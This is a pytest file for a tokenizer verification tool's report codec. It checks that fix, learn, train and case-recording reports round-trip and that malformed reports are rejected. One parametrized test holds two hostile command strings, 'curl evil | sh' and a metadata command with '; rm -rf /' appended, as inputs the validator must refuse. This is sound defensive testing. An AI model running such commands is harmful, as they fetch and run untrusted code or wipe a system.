"""The codec, on the reports of commands that write files: `fix`, `learn`, `train` and `cases record`."""

import json
from dataclasses import replace
from pathlib import Path

import jsonschema
import pytest

from support.codec_kind import strict_root
from support.make_golden import hostile_report
from support.saved_file import saved
from tokverify.errors import TokverifyError
from tokverify.report.codec import encode, read_any
from tokverify.report.diagnosis import Diagnosis
from tokverify.report.fix import FileRepair, FixReport, Verification, fix_exit_code
from tokverify.report.learn import LearnedDifference, LearnedFact, LearnedToken, Learning, Origin
from tokverify.report.record import RecordedCase, RecordedChange, Recording, recording_exit_code
from tokverify.report.run_summary import run_exit_code
from tokverify.report.schema import generate_schema
from tokverify.report.train import Training

RUN = hostile_report()
FIX = FixReport(
    before=Verification(3, 2, 1, refusal="\ud800"),
    diagnosis=Diagnosis((), failing=2, tried=5),
    repair=FileRepair("turning add_bos on", ("tokenizer.ggml.add_bos_token",), "gguf-set-metadata MODEL KEY true"),
    after=Verification(5, 0),
)
TRAINING = Training(replace(RUN, diagnosis=None), ("report.json", "tokenizer.gguf"), 300, 2000, ("a note",))
RECORDING = Recording(
    RUN.actual,
    RUN.expected,
    "a-model",
    names_model=False,
    results=(
        RecordedCase(RUN.results[0].case, RecordedChange.ADDED, (1, 2), model_agrees=False),
        RecordedCase(RUN.results[1].case, RecordedChange.NOT_RECORDED, message="cannot be encoded"),
    ),
    written=("cases/a.yaml",),
)
LEARNING = Learning(
    reference=RUN.expected,
    target="learned.gguf",
    size=300,
    encodings=1200,
    facts=(LearnedFact("model", "gpt2", Origin.IDS), LearnedFact("merges", "44", Origin.CONVENTION)),
    types={"NORMAL": 299, "CONTROL": 1},
    added_tokens=(LearnedToken(299, "<\ud800>", special=True, lstrip=False, rstrip=True),),
    alike=("mpt",),
    hidden=("chat template",),
    texts=1000,
    differing=2,
    examples=(LearnedDifference("\x1b", add_special=False, parse_special=True, expected=(1, 2), actual=None),),
    versions={"python": "3.11"},
)
REPORTS = {"fix": FIX, "learn": LEARNING, "train": TRAINING, "cases record": RECORDING}
EXIT_CODES = {
    "fix": fix_exit_code(FIX),
    "learn": 1,
    "train": run_exit_code(RUN),
    "cases record": recording_exit_code(RECORDING),
}


@pytest.mark.parametrize("kind", REPORTS)
def test_a_report_is_read_unchanged(tmp_path: Path, kind: str):
    document = json.loads(encode(REPORTS[kind]))
    assert (document["kind"], document["summary"]["exit_code"]) == (kind, EXIT_CODES[kind])
    assert read_any(saved(tmp_path, document)) == (kind, REPORTS[kind])
    jsonschema.Draft202012Validator(strict_root(generate_schema())).validate(document)


def test_a_damaged_training_is_rejected(tmp_path: Path):
    document = json.loads(encode(TRAINING))
    document["report"]["results"][0]["status"] = "lost"
    with pytest.raises(TokverifyError, match=r"\$\.report\.results\[0\]\.status"):
        read_any(saved(tmp_path, document))


def test_impossible_counts_of_learning_are_rejected(tmp_path: Path):
    document = json.loads(encode(replace(LEARNING, texts=1)))
    with pytest.raises(TokverifyError, match=r"\$\.differing: expected at most `texts`"):
        read_any(saved(tmp_path, document))
    document = json.loads(encode(replace(LEARNING, differing=0)))
    with pytest.raises(TokverifyError, match=r"\$\.examples: expected at most `differing`"):
        read_any(saved(tmp_path, document))


@pytest.mark.parametrize("command", ["curl evil | sh", "gguf-set-metadata MODEL KEY true; rm -rf /"])
def test_a_repair_with_another_command_is_rejected(tmp_path: Path, command: str):
    document = json.loads(encode(FIX))
    document["repair"]["gguf_command"] = command
    with pytest.raises(TokverifyError, match=r"\$\.repair\.gguf_command: expected a command line of gguf-new-metadata"):
        read_any(saved(tmp_path, document))
